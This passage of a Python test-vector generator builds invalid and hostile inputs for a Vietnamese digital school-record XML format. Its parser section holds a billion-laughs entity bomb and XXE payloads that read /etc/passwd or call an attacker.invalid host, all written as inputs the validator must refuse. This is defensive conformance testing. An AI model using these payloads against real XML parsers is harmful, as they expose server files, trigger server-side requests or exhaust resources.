                f"<GIOI_TINH>{sex}</GIOI_TINH><NGAY_SINH>{dob}</NGAY_SINH>",
                f"<NGAY_SINH>{dob}</NGAY_SINH><GIOI_TINH>{sex}</GIOI_TINH>",
            ),
            ["canonical:refused"],
        )
    )
    return out


# ----------------------------------------------------------------------------- rules

_SUBJ_P = f"{SUMMARY}/DS_BANG_DIEM/BANG_DIEM"
_SUBJ_S = f"{SUMMARY}/DS_DIEM_TONG_KET/DIEM_TONG_KET"


def _idx(record: Record, code: str) -> int:
    subjects: Sequence[Any] = record.data.summary.subjects
    return next(i for i, s in enumerate(subjects) if s.subject_code == code)


def _p(record: Record, code: str) -> str:
    n = len(record.data.summary.subjects)
    return f"{_SUBJ_P}[{_idx(record, code) + 1}]" if n > 1 else _SUBJ_P


def _s(record: Record, code: str) -> str:
    n = len(record.data.summary.subjects)
    return f"{_SUBJ_S}[{_idx(record, code) + 1}]" if n > 1 else _SUBJ_S


def _prim(final: FinalEvaluation = FinalEvaluation.COMPLETED, grade: int = 4) -> PrimaryRecord:
    record = _find(
        [grade],
        lambda r: isinstance(r, PrimaryRecord) and r.data.summary.final_evaluation is final,
    )
    assert isinstance(record, PrimaryRecord)
    return record


def _sec(grade: int = 7, level: ResultLevel | None = None) -> SecondaryRecord:
    return _secondary_with(
        lambda r: level is None or r.data.summary.learning_year is level, range(grade, grade + 1)
    )


RuleCase = tuple[str, str, Record, dict[str, Any]]


def _rule_cases_tt27() -> Iterator[RuleCase]:
    from hocbaso import assessment

    base = _prim()
    yield (
        "TT27-KQ-001",
        "KET_QUA_XEP_LOAI Hoàn thành tốt where the subjects and qualities give Hoàn thành",
        update(base, ("data", "summary"), final_evaluation=FinalEvaluation.EXCELLENT),
        invalid((("TT27-KQ-001",), (f"{SUMMARY}/KET_QUA_XEP_LOAI",))),
    )
    tv = _idx(base, "TV")
    yield (
        "TT27-KTDK-001",
        "no periodic test score for Tiếng Việt",
        setp(base, ("data", "summary", "subjects", tv, "test_score"), None),
        invalid((("TT27-KTDK-001",), (_p(base, "TV"), f"{_p(base, 'TV')}/DIEM_KIEM_TRA_DINH_KY"))),
    )
    dd = _idx(base, "DD")
    yield (
        "TT27-KTDK-002",
        "a periodic test score for Đạo đức (a subject without periodic tests)",
        setp(base, ("data", "summary", "subjects", dd, "test_score"), 8),
        rule_warning("TT27-KTDK-002", f"{_p(base, 'DD')}/DIEM_KIEM_TRA_DINH_KY", _p(base, "DD")),
    )
    g2 = _prim(grade=2)
    yield (
        "TT27-NLPC-001",
        "grade 2 with the technology competency assessed",
        setp(g2, ("data", "summary", "assessment", "technology"), QualityLevel.PASS),
        rule_warning("TT27-NLPC-001", f"{SUMMARY}/DANH_GIA_NANG_LUC_PHAM_CHAT/NANG_LUC_CONG_NGHE"),
    )
    yield (
        "TT27-HT-001",
        "DA_HOAN_THANH_CHUONG_TRINH_LOP_HOC 0 with evaluation Hoàn thành",
        update(base, ("data", "summary"), completed_grade=False),
        invalid((("TT27-HT-001",), (f"{SUMMARY}/DA_HOAN_THANH_CHUONG_TRINH_LOP_HOC",))),
    )
    yield (
        "TT27-LL-001",
        "completed the grade but DUOC_LEN_LOP 0",
        update(base, ("data", "summary"), promoted=False),
        invalid((("TT27-LL-001",), (f"{SUMMARY}/DUOC_LEN_LOP",))),
    )
    nc = _not_completed_subject()
    yield (
        "TT27-LL-002",
        "not completed but promoted (only by the principal's decision: a warning)",
        update(
            nc,
            ("data", "summary"),
            promoted=True,
            completion_text=assessment.completion_text(nc.data.general.grade, False, True),
        ),
        rule_warning("TT27-LL-002", f"{SUMMARY}/DUOC_LEN_LOP"),
    )
    g5 = _prim(grade=5)
    yield (
        "TT27-HT-002",
        "grade 5 completed without DA_HOAN_THANH_CHUONG_TRINH_TIEU_HOC 1",
        update(g5, ("data", "summary"), completed_primary=False),
        invalid((("TT27-HT-002",), (f"{SUMMARY}/DA_HOAN_THANH_CHUONG_TRINH_TIEU_HOC",))),
    )
    yield (
        "TT27-HT-003",
        "completion wording says 'Chưa hoàn thành' for a pupil who completed the grade",
        update(
            base,
            ("data", "summary"),
            completion_text="Chưa hoàn thành chương trình lớp 4; Chưa được lên lớp 5.",
        ),
        invalid((("TT27-HT-003",), (f"{SUMMARY}/NOI_DUNG_HOAN_THANH_CHUONG_TRINH",))),
    )
    yield (
        "TT27-HT-004",
        "completion wording not in the model form ('Đã hoàn thành lớp 4.')",
        update(base, ("data", "summary"), completion_text="Đã hoàn thành lớp 4."),
        rule_warning("TT27-HT-004", f"{SUMMARY}/NOI_DUNG_HOAN_THANH_CHUONG_TRINH"),
    )
    yield (
        "TT27-KT-001",
        "commendation 'Học sinh Xuất sắc' for a Hoàn thành pupil",
        update(base, ("data", "summary"), commendation="Học sinh Xuất sắc"),
        rule_warning("TT27-KT-001", f"{SUMMARY}/NOI_DUNG_KHEN_THUONG"),
    )
    yield (
        "TT27-KT-002",
        "'Học sinh Tiêu biểu hoàn thành tốt' commendation for a Hoàn thành pupil",
        update(
            base,
            ("data", "summary"),
            commendation="Học sinh Tiêu biểu hoàn thành tốt trong học tập và rèn luyện",
        ),
        rule_warning("TT27-KT-002", f"{SUMMARY}/NOI_DUNG_KHEN_THUONG"),
    )


def _rule_cases_tt22() -> Iterator[RuleCase]:
    base = _sec(7)
    toan = _idx(base, "TOAN")
    t_loc = _s(base, "TOAN")
    avg1 = base.data.summary.subjects[toan].term1.average
    assert avg1 is not None
    yield (
        "TT22-AVG-001",
        "term I average of Toán 0.1 off the formula",
        setp(
            base,
            ("data", "summary", "subjects", toan, "term1", "average"),
            avg1 + Decimal("0.1") if avg1 < 10 else avg1 - Decimal("0.1"),
        ),
        invalid((("TT22-AVG-001",), (f"{t_loc}/HOC_KY_1/DTB_MON",))),
    )
    yavg = base.data.summary.subjects[toan].year.average
    assert yavg is not None
    yield (
        "TT22-AVG-002",
        "year average of Toán 0.1 off (TBhk1 + 2·TBhk2)/3",
        setp(
            base,
            ("data", "summary", "subjects", toan, "year", "average"),
            yavg + Decimal("0.1") if yavg < 10 else yavg - Decimal("0.1"),
        ),
        invalid((("TT22-AVG-002",), (f"{t_loc}/CA_NAM/DTB_MON",))),
    )
    gdtc = _idx(base, "GDTC")
    g_loc = _s(base, "GDTC")
    other = (
        PassLevel.FAIL
        if base.data.summary.subjects[gdtc].year.result is PassLevel.PASS
        else PassLevel.PASS
    )
    yield (
        "TT22-CMT-001",
        "GDTC year result differs from its term II result",
        setp(base, ("data", "summary", "subjects", gdtc, "year", "result"), other),
        invalid((("TT22-CMT-001",), (f"{g_loc}/CA_NAM/MUC_DANH_GIA",))),
    )
    yield (
        "TT22-DH-001",
        "title Học sinh Xuất sắc without the conditions",
        update(base, ("data", "summary"), title=Title.OUTSTANDING),
        invalid((("TT22-DH-001",), (f"{SUMMARY}/DANH_HIEU",))),
    )
    titled = _secondary_with(lambda r: r.data.summary.title is Title.EXCELLENT, range(6, 13))
    yield (
        "TT22-DH-002",
        "results qualify for Học sinh Giỏi but no title is given",
        update(titled, ("data", "summary"), title=None),
        rule_warning("TT22-DH-002", f"{SUMMARY}/DANH_HIEU", SUMMARY),
    )
    eight = Decimal(8)
    scored = TermResult(
        regular_scores=(eight, eight, eight), midterm_score=eight, final_score=eight, average=eight
    )
    gdtc_scored = base.data.summary.subjects[gdtc].model_copy(
        update={
            "form": AssessmentForm.SCORE,
            "term1": scored,
            "term2": scored,
            "year": YearResult(average=eight),
        }
    )
    yield (
        "TT22-HT-001",
        "GDTC (comment-only by Điều 5) assessed with scores (HINH_THUC_DANH_GIA DIEM_SO)",
        recompute(setp(base, ("data", "summary", "subjects", gdtc), gdtc_scored)),
        invalid((("TT22-HT-001",), (f"{g_loc}/HINH_THUC_DANH_GIA",))),
    )
    wrong = (
        ResultLevel.GOOD
        if base.data.summary.learning_year is not ResultLevel.GOOD
        else ResultLevel.FAIR
    )
    yield (
        "TT22-KQHT-001",
        f"year learning result {wrong.value} that the averages do not give",
        update(base, ("data", "summary"), learning_year=wrong),
        invalid((("TT22-KQHT-001",), (f"{SUMMARY}/KET_QUA_HOC_TAP_CA_NAM",))),
    )
    yield (
        "TT22-KQHT-002",
        "Tốt pulled down by one subject below 3.5, written Đạt (the other reading of Điều 9.3)",
        _other_reading(),
        rule_warning("TT22-KQHT-002", f"{SUMMARY}/KET_QUA_HOC_TAP_CA_NAM"),
    )
    yield (
        "TT22-KTL-001",
        "a re-test score although the year learning result is not Chưa đạt",
        setp(base, ("data", "summary", "subjects", toan, "year", "retest_score"), Decimal(6)),
        invalid((("TT22-KTL-001",), (f"{t_loc}/CA_NAM/DIEM_KIEM_TRA_LAI", f"{t_loc}/CA_NAM"))),
    )
    yield (
        "TT22-KTL-002",
        "a learning result after re-tests although the year result is not Chưa đạt",
        update(base, ("data", "summary"), learning_after_retest=ResultLevel.PASS),
        invalid((("TT22-KTL-002",), (f"{SUMMARY}/KET_QUA_HOC_TAP_SAU_KIEM_TRA_LAI",))),
    )
    yield (
        "TT22-LL-001",
        "DUOC_LEN_LOP 0 for a student whose results give promotion",
        update(base, ("data", "summary"), promoted=False),
        invalid((("TT22-LL-001",), (f"{SUMMARY}/DUOC_LEN_LOP",))),
    )
    yield (
        "TT22-LL-002",
        "DA_HOAN_THANH_CHUONG_TRINH_LOP_HOC 0 for a student who completed the grade",
        update(base, ("data", "summary"), completed_grade=False),
        invalid((("TT22-LL-002",), (f"{SUMMARY}/DA_HOAN_THANH_CHUONG_TRINH_LOP_HOC",))),
    )
    yield (
        "TT22-LL-003",
        "grade 7 record carrying DA_HOAN_THANH_CHUONG_TRINH_TRUNG_HOC_CO_SO",
        update(base, ("data", "summary"), completed_lower_secondary=True),
        invalid((("TT22-LL-003",), (f"{SUMMARY}/DA_HOAN_THANH_CHUONG_TRINH_TRUNG_HOC_CO_SO",))),
    )
    c1, c2 = base.data.summary.conduct_term1, base.data.summary.conduct_term2
    wrong_c = (
        ResultLevel.PASS
        if base.data.summary.conduct_year is not ResultLevel.PASS
        else ResultLevel.GOOD
    )
    yield (
        "TT22-RL-001",
        f"year conduct {wrong_c.value} with terms {c1.value} / {c2.value}",
        update(base, ("data", "summary"), conduct_year=wrong_c),
        invalid((("TT22-RL-001",), (f"{SUMMARY}/KET_QUA_REN_LUYEN_CA_NAM",))),
    )
    yield (
        "TT22-RLH-001",
        "a conduct result after summer training although the year conduct is not Chưa đạt",
        update(base, ("data", "summary"), conduct_after_summer=ResultLevel.PASS),
        invalid((("TT22-RLH-001",), (f"{SUMMARY}/KET_QUA_REN_LUYEN_SAU_REN_LUYEN_HE",))),
    )
    from hocbaso import assessment

    t1 = base.data.summary.subjects[toan].term1
    fewer = t1.regular_scores[:-1]
    assert t1.midterm_score is not None and t1.final_score is not None
    new_t1 = t1.model_copy(
        update={
            "regular_scores": fewer,
            "average": assessment.term_average(fewer, t1.midterm_score, t1.final_score),
        }
    )
    tx = setp(base, ("data", "summary", "subjects", toan, "term1"), new_t1)
    t2avg = tx.data.summary.subjects[toan].term2.average
    assert new_t1.average is not None and t2avg is not None
    tx = setp(
        tx,
        ("data", "summary", "subjects", toan, "year", "average"),
        assessment.year_average(new_t1.average, t2avg),
    )
    yield (
        "TT22-TX-001",
        f"Toán term I with {len(fewer)} regular scores (140 periods a year need 4)",
        recompute(tx),
        rule_warning("TT22-TX-001", f"{t_loc}/HOC_KY_1"),
    )


def _other_reading() -> SecondaryRecord:
    from hocbaso import assessment

    base = _sec(10, ResultLevel.GOOD)
    i = next(i for i, s in enumerate(base.data.summary.subjects) if s.form is AssessmentForm.SCORE)
    s = base.data.summary.subjects[i]
    three = Decimal(3)

    def low(t: TermResult) -> TermResult:
        regular = tuple(three for _ in t.regular_scores)
        return t.model_copy(
            update={
                "regular_scores": regular,
                "midterm_score": three,
                "final_score": three,
                "average": assessment.term_average(regular, three, three),
            }
        )

    s = s.model_copy(
        update={
            "term1": low(s.term1),
            "term2": low(s.term2),
            "year": s.year.model_copy(update={"average": three}),
        }
    )
    record = recompute(setp(base, ("data", "summary", "subjects", i), s))
    assert isinstance(record, SecondaryRecord)
    summary = record.data.summary

    def other(part: str) -> ResultLevel:
        scores = [
            getattr(x, part).average for x in summary.subjects if x.form is AssessmentForm.SCORE
        ]
        comments = [
            getattr(x, part).result for x in summary.subjects if x.form is AssessmentForm.COMMENT
        ]
        return assessment.learning_level(scores, comments, reading=assessment.READING_ABOVE_RESULT)

    year = other("year")
    conduct = summary.conduct_year
    promoted = assessment.promoted(
        conduct, year, record.data.general.excused_absences + record.data.general.unexcused_absences
    )
    return update(
        record,
        ("data", "summary"),
        learning_term1=other("term1"),
        learning_term2=other("term2"),
        learning_year=year,
        promoted=promoted,
        completed_grade=promoted,
    )


def _rule_cases_identity() -> Iterator[RuleCase]:
    base = examples.example_record(4)
    assert isinstance(base, PrimaryRecord)
    g = base.data.general
    pid = g.personal_id

    def gen(**values: Any) -> Record:
        return update(base, ("data", "general"), **values)

    yield (
        "ID-CCCD-001",
        "student's personal id starting 999 (not a province code)",
        gen(personal_id="999" + pid[3:]),
        rule_warning("ID-CCCD-001", f"{GENERAL}/SO_CCCD"),
    )
    yield (
        "ID-CCCD-002",
        "digit 4 of the personal id says the other sex",
        gen(personal_id=pid[:3] + str(int(pid[3]) ^ 1) + pid[4:]),
        invalid((("ID-CCCD-002",), (f"{GENERAL}/SO_CCCD", f"{GENERAL}/GIOI_TINH"))),
    )
    yy = (int(pid[4:6]) + 3) % 100
    yield (
        "ID-CCCD-003",
        "birth-year digits of the personal id 3 years off the date of birth",
        gen(personal_id=pid[:4] + f"{yy:02d}" + pid[6:]),
        invalid((("ID-CCCD-003",), (f"{GENERAL}/SO_CCCD", f"{GENERAL}/NGAY_SINH"))),
    )
    yield (
        "ID-CCCD-004",
        "the signing leader's personal id encodes a birth year of a child",
        gen(signing_leader_personal_id="048315001234"),
        rule_warning("ID-CCCD-004", f"{GENERAL}/SO_CCCD_GIAM_HIEU_KY_HOC_BA"),
    )
    yield (
        "ID-CCCD-005",
        "the homeroom teacher's personal id equals the student's",
        gen(homeroom_teacher_personal_id=pid),
        invalid((("ID-CCCD-005",), (f"{GENERAL}/SO_CCCD_GIAO_VIEN_CHU_NHIEM",))),
    )
    yield (
        "ID-MHS-001",
        "MA_HOC_SINH of 9 digits",
        gen(student_code=g.student_code[:9]),
        rule_warning("ID-MHS-001", f"{GENERAL}/MA_HOC_SINH"),
    )
    yield (
        "ID-SGD-001",
        "MA_SO_GIAO_DUC 99 (not a province code)",
        gen(department_code="99"),
        rule_warning("ID-SGD-001", f"{GENERAL}/MA_SO_GIAO_DUC"),
    )
    yield (
        "ID-TT-001",
        "a primary record naming Thông tư 22/2021 (the secondary circular)",
        gen(circular="22/2021/TT-BGDĐT"),
        rule_warning("ID-TT-001", f"{GENERAL}/THONG_TU"),
    )
    dob = g.date_of_birth
    older = dob.replace(year=dob.year - 6)
    century = (older.year - 1900) // 100 * 2 + (1 if g.sex is Sex.FEMALE else 0)
    yield (
        "ID-AGE-001",
        "a grade 4 pupil born 6 years earlier (personal id changed to match)",
        gen(date_of_birth=older, personal_id=f"{pid[:3]}{century}{older.year % 100:02d}{pid[6:]}"),
        rule_warning("ID-AGE-001", f"{GENERAL}/NGAY_SINH"),
    )
    hist = list(base.data.history)
    n = len(hist)
    last = f"{HISTORY}/NAM_HOC_HOC_TAP[{n}]" if n > 1 else f"{HISTORY}/NAM_HOC_HOC_TAP"
    later = hist[-1].model_copy(
        update={
            "school_year": hist[-1].school_year + 1,
            "enrolled_on": hist[-1].enrolled_on.replace(year=hist[-1].enrolled_on.year + 1),
        }
    )
    after = f"{HISTORY}/NAM_HOC_HOC_TAP[{n + 1}]"
    yield (
        "ID-HIST-001",
        "a study-history entry for the year after the record's year",
        update(base, ("data",), history=(*hist, later)),
        invalid((("ID-HIST-001",), (f"{after}/NAM_HOC", after, f"{last}/NAM_HOC"))),
    )
    gap = [h for i, h in enumerate(hist) if i != 1]
    yield (
        "ID-HIST-002",
        "a year missing from the study history",
        update(base, ("data",), history=tuple(gap)),
        rule_warning(
            "ID-HIST-002", f"{HISTORY}/NAM_HOC_HOC_TAP[2]/NAM_HOC", f"{HISTORY}/NAM_HOC_HOC_TAP[2]"
        ),
    )
    moved = hist[0].model_copy(
        update={"enrolled_on": hist[0].enrolled_on.replace(year=hist[0].enrolled_on.year + 2)}
    )
    yield (
        "ID-HIST-003",
        "an arrival date outside its school year",
        update(base, ("data",), history=(moved, *hist[1:])),
        rule_warning("ID-HIST-003", f"{HISTORY}/NAM_HOC_HOC_TAP[1]/NGAY_TRANG_THAI_CHUYEN_DEN"),
    )
    renamed = hist[-1].model_copy(update={"class_name": "4/9"})
    yield (
        "ID-HIST-004",
        "the last study-history entry names another class",
        update(base, ("data",), history=(*hist[:-1], renamed)),
        rule_warning("ID-HIST-004", f"{last}/TEN_LOP"),
    )
    khtn = base.data.summary.subjects[-1].model_copy(
        update={"subject_code": "KHTN", "subject_name": "Khoa học tự nhiên", "test_score": None}
    )
    last_p = f"{_SUBJ_P}[{len(base.data.summary.subjects)}]"
    yield (
        "ID-MON-001",
        "a primary record listing KHTN (a lower-secondary subject) instead of its last subject",
        update(base, ("data", "summary"), subjects=(*base.data.summary.subjects[:-1], khtn)),
        rule_warning("ID-MON-001", f"{last_p}/MA_MON_HOC"),
    )
    mt = _idx(base, "MT")
    subjects = tuple(s for i, s in enumerate(base.data.summary.subjects) if i != mt)
    yield (
        "ID-MON-002",
        "a grade 4 record without Mĩ thuật (MT)",
        recompute(update(base, ("data", "summary"), subjects=subjects)),
        rule_warning("ID-MON-002", f"{SUMMARY}/DS_BANG_DIEM"),
    )


def rule_vectors(signed_primary: bytes | None) -> list[Vector]:
    """One failing record per single-record rule."""
    out = []
    for rule_id, description, record, expect in (
        *_rule_cases_tt27(),
        *_rule_cases_tt22(),
        *_rule_cases_identity(),
    ):
        out.append(
            Vector(
                f"rules/{rule_id}", "rules", description, expect, xml(record), [f"rule:{rule_id}"]
            )
        )
    if signed_primary is not None:
        # The CBQL slot's SO_CCCD no longer matches SO_CCCD_GIAM_HIEU_KY_HOC_BA (the signature
        # breaks too, but business rules do not verify signatures).
        doc = re.sub(
            rb"(<CBQL><NGAY_KY>[^<]*</NGAY_KY><SO_CCCD>)[0-9]{12}",
            rb"\g<1>048078009999",
            signed_primary,
        )
        out.append(
            Vector(
                "rules/ID-SIGNER-001",
                "rules",
                "the CBQL slot carries another SO_CCCD than the signing leader the record names",
                rule_warning("ID-SIGNER-001", "/HOC_BA/DANH_SACH_THONG_TIN_KY/CBQL/SO_CCCD"),
                doc,
                ["rule:ID-SIGNER-001"],
            )
        )
    return out


# ----------------------------------------------------------------------------- batch


def _batch(*records: Record) -> bytes:
    return b"<DANH_SACH_HOC_BA>" + b"".join(xml(r) for r in records) + b"</DANH_SACH_HOC_BA>"


def batch_vectors() -> list[Vector]:
    """One two-record batch per cross-record rule (the second record is reported)."""
    import uuid

    a = examples.example_record(6)
    g = a.data.general

    def other(seed: int, **values: Any) -> Record:
        b = examples.generate_record(seed, 6)
        return update(b, ("data", "general"), **values)

    second = "/DANH_SACH_HOC_BA/HOC_BA[2]/DU_LIEU_HOC_BA/THONG_TIN_CHUNG"
    fresh = uuid.UUID("6d1c3c5e-9a0b-4c1d-8e2f-3a4b5c6d7e8f")
    twin = update(a, ("data", "general"), lookup_uuid=fresh)
    cases: list[tuple[str, str, bytes, str]] = [
        (
            "BATCH-DUP-001",
            "the same student, school year and school twice (two lookup UUIDs)",
            _batch(a, twin),
            f"{second}/SO_CCCD",
        ),
        (
            "BATCH-ID-001",
            "a second student (other name and birth date) with the first one's personal id",
            _batch(a, other(41, personal_id=g.personal_id, school_code="48491503")),
            f"{second}/SO_CCCD",
        ),
        (
            "BATCH-MHS-001",
            "a second student with the first one's student code",
            _batch(a, other(42, student_code=g.student_code)),
            f"{second}/MA_HOC_SINH",
        ),
        (
            "BATCH-SCHOOL-001",
            "the same student in two schools in the same school year",
            _batch(a, update(twin, ("data", "general"), school_code="48491599")),
            f"{second}/MA_TRUONG",
        ),
        (
            "BATCH-UUID-001",
            "two different students sharing one lookup UUID",
            _batch(a, other(43, lookup_uuid=g.lookup_uuid)),
            f"{second}/MA_TRA_CUU_UUID",
        ),
    ]
    return [
        Vector(
            f"batch/{rule_id}",
            "batch",
            description,
            invalid(((rule_id,), (location,))),
            doc,
            [f"rule:{rule_id}"],
        )
        for rule_id, description, doc, location in cases
    ]


# ----------------------------------------------------------------------------- parser

_BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE HOC_BA [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""


def parser_vectors() -> list[Vector]:
    """Inputs that must be refused before they are examined."""
    p1 = xml(examples.example_record(1))
    name = get_text(p1, "HO_VA_TEN")
    out: list[Vector] = []

    def add(vid: str, description: str, doc: bytes, *codes: str) -> None:
        covers = [f"parser:{vid}"]
        if vid == "unknown-version":
            covers.append("out-of-list:VersionType")  # PHIEN_BAN selects the format version
        out.append(Vector(f"parser/{vid}", "parser", description, unusable(*codes), doc, covers))

    add(
        "billion-laughs",
        "nested internal entities (billion laughs) used in HO_VA_TEN",
        _BILLION_LAUGHS.encode() + set_text(p1, "HO_VA_TEN", "&lol9;"),
        "XML-UNSAFE",
    )
    add(
        "xxe-file",
        "an external entity reading a local file (XXE)",
        b'<?xml version="1.0"?>\n<!DOCTYPE HOC_BA [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        + set_text(p1, "HO_VA_TEN", "&xxe;"),
        "XML-UNSAFE",
    )
    add(
        "xxe-network",
        "an external entity on the network (XXE, server-side request)",
        b'<!DOCTYPE HOC_BA [<!ENTITY xxe SYSTEM "http://attacker.invalid/x">]>'
        + set_text(p1, "HO_VA_TEN", "&xxe;"),
        "XML-UNSAFE",
    )
    add(
        "parameter-entity",
        "an external parameter entity in the DTD",
        b'<!DOCTYPE HOC_BA [<!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext;]>' + p1,
        "XML-UNSAFE",
    )
    add(
        "external-dtd",
        "a DOCTYPE naming an external DTD",
        b'<!DOCTYPE HOC_BA SYSTEM "http://attacker.invalid/hocba.dtd">' + p1,
        "XML-UNSAFE",
    )
    add(
        "internal-dtd-harmless",
        "an internal DTD subset with no entity use (refused all the same)",
        b"<!DOCTYPE HOC_BA [<!ELEMENT HOC_BA ANY>]>" + p1,
        "XML-UNSAFE",
    )
    add(
        "utf16-bom",
        "the record in UTF-16 with a byte-order mark",
        b'<?xml version="1.0" encoding="UTF-16"?>'.decode().encode("utf-16")
        + p1.decode().encode("utf-16")[2:],
        "TEXT-ENCODING",
    )
    add(
        "latin1-declared",
        "an XML declaration naming ISO-8859-1 (Latin-1)",
        b'<?xml version="1.0" encoding="ISO-8859-1"?>' + p1,
        "TEXT-ENCODING",
    )
    add(
        "latin1-bytes",
        "Latin-1 bytes (not UTF-8) in a name, no declaration",
        set_text(p1, "HO_VA_TEN_ME", "").replace(
            b"<HO_VA_TEN_ME></HO_VA_TEN_ME>",
            "<HO_VA_TEN_ME>Hồ Thu Vy</HO_VA_TEN_ME>".encode().replace("ồ".encode(), b"\xf4"),
        ),
        "TEXT-ENCODING",
    )
    add(
        "windows-1258-declared",
        "an XML declaration naming windows-1258 (the Vietnamese code page)",
        b'<?xml version="1.0" encoding="windows-1258"?>' + p1,
        "TEXT-ENCODING",
    )
    add(
        "c0-control-character",
        "a C0 control character (U+0007), not allowed anywhere in XML 1.0",
        set_text(p1, "HO_VA_TEN_ME", get_text(p1, "HO_VA_TEN_ME").replace(" ", "\x07 ", 1)),
        "XML-SYNTAX",
    )
    add("not-xml", "a CSV file", f"HO_VA_TEN;SO_CCCD\n{name};048317002681\n".encode(), "XML-SYNTAX")
    add("truncated", "a record cut off in the middle", p1[: len(p1) * 3 // 5], "XML-SYNTAX")
    add("empty", "an empty file", b"", "XML-SYNTAX")
    add(
        "wrong-root",
        "a well-formed document whose root is not HOC_BA",
        p1.replace(b"<HOC_BA>", b"<HOCBA>", 1).replace(b"</HOC_BA>", b"</HOCBA>"),
        "PROFILE",
    )
    add(
        "namespaced-root",
        "HOC_BA in a namespace (the standard's elements have none)",
        p1.replace(b"<HOC_BA>", b'<HOC_BA xmlns="urn:evil">', 1),
        "PROFILE",
    )
    add(
        "unknown-version",
        "PHIEN_BAN 2.0 (an unknown version of the format)",
        set_text(p1, "PHIEN_BAN", "2.0"),
        "PROFILE",
    )
    add(
        "unknown-level",
        "MA_CAP_HOC 01 (pre-school: no profile)",
        set_text(p1, "MA_CAP_HOC", "01"),
        "PROFILE",
        "XSD-VALUE",
    )
    return out


# ----------------------------------------------------------------------------- signatures


class DeterministicSigner:
    """A :class:`hocbaso.signing.Signer` that gives the same signature for the same input.

    RSA PKCS#1 v1.5 is deterministic by construction; ECDSA uses RFC 6979 nonces
    (``deterministic_signing=True``). PSS is refused (its salt is random).
    """

    def __init__(
        self, key: Any, certificate: x509.Certificate, chain: Sequence[x509.Certificate]
    ) -> None:
        self._key = key
        self._certificate = certificate
        self._chain = tuple(chain)

    @property
    def certificate(self) -> x509.Certificate:
        """The signer certificate."""
        return self._certificate

    @property
    def chain(self) -> Sequence[x509.Certificate]:
        """CA certificates embedded in KeyInfo."""
        return self._chain

    def sign_digest(self, digest: bytes, algorithm: signing.SignatureAlgorithm) -> bytes:
        """Sign a digest deterministically."""
        pre = utils.Prehashed(algorithm.digest_algorithm.hash_algorithm())
        if isinstance(self._key, rsa.RSAPrivateKey):
            if algorithm.is_pss:
                raise ValueError("PSS signatures are randomised; not used for vectors")
            return self._key.sign(digest, padding.PKCS1v15(), pre)
        assert isinstance(self._key, ec.EllipticCurvePrivateKey)
        return self._key.sign(digest, ec.ECDSA(pre, deterministic_signing=True))


def load_signers(pki: Path) -> dict[str, DeterministicSigner]:
    """Deterministic signers over the checked-in demo PKI."""
    issuing = x509.load_pem_x509_certificate((pki / "issuing-ca.pem").read_bytes())
    out = {}
    for name in (
        "gvbm-toan",
        "gvbm-van",
        "gvcn",
        "cbql",
        "org",
        "revoked",
        "expired",
        "future",
        "rogue-cbql",
    ):
        key = serialization.load_pem_private_key((pki / f"{name}.key.pem").read_bytes(), None)
        cert = x509.load_pem_x509_certificate((pki / f"{name}.pem").read_bytes())
        out[name] = DeterministicSigner(key, cert, [] if name.startswith("rogue") else [issuing])
    return out


def _cccd(signer: DeterministicSigner) -> str:
    uid = signer.certificate.subject.get_attributes_for_oid(x509.NameOID.USER_ID)
    return str(uid[0].value).removeprefix("CCCD:")


def sign_slot(
    doc: bytes,
    slot_name: str,
    signer: DeterministicSigner,
    when: dt.datetime,
    *,
    force: bool = False,
    level: signing.SignatureLevel = signing.SignatureLevel.XMLDSIG,
) -> bytes:
    """Sign one slot; ``force`` skips the signing-side checks (to build hostile inputs)."""
    policy = signing.SignaturePolicy(level=level)
    if not force:
        return signing.sign(doc, slot=slot_name, signer=signer, signing_time=when, policy=policy)
    p = signing.prepare(
        doc,
        slot=slot_name,
        cert=signer.certificate,
        chain=signer.chain,
        signing_time=when,
        policy=policy,
        _unsafe_skip_checks=True,
    )
    return p.complete(signer.sign_digest(p.digest, p.algorithm))


def _at(minutes: int) -> dt.datetime:
    return SIGNING_T0 + dt.timedelta(minutes=minutes)


def signable_records(
    signers: dict[str, DeterministicSigner],
) -> tuple[PrimaryRecord, SecondaryRecord]:
    """A primary and a secondary record naming the demo PKI's people as signers."""
    leader = {
        "signing_leader_name": "Nguyễn Văn Hùng",
        "signing_leader_personal_id": _cccd(signers["cbql"]),
        "homeroom_teacher_name": "Phạm Thị Thu Hà",
        "homeroom_teacher_personal_id": _cccd(signers["gvcn"]),
    }
    prim = update(examples.example_record(4), ("data", "general"), **leader)
    sec = update(examples.example_record(7), ("data", "general"), **leader)
    subjects = []
    for s in sec.data.summary.subjects:
        who = (
            ("Trần Văn Minh", "gvbm-toan")
            if s.subject_code == "TOAN"
            else ("Lê Thị Hoa", "gvbm-van")
        )
        subjects.append(
            s.model_copy(
                update={"teacher": SubjectTeacher(name=who[0], personal_id=_cccd(signers[who[1]]))}
            )
        )
    sec = update(sec, ("data", "summary"), subjects=tuple(subjects))
    assert isinstance(prim, PrimaryRecord) and isinstance(sec, SecondaryRecord)
    return prim, sec


def sign_all(
    record: Record,
    signers: dict[str, DeterministicSigner],
    *,
    gvcn: str = "gvcn",
    gvcn_time: dt.datetime | None = None,
    force_gvcn: bool = False,
    level: signing.SignatureLevel = signing.SignatureLevel.XMLDSIG,
) -> bytes:
    """Sign every slot in the official order with the demo PKI's people."""
    doc = xml(record)
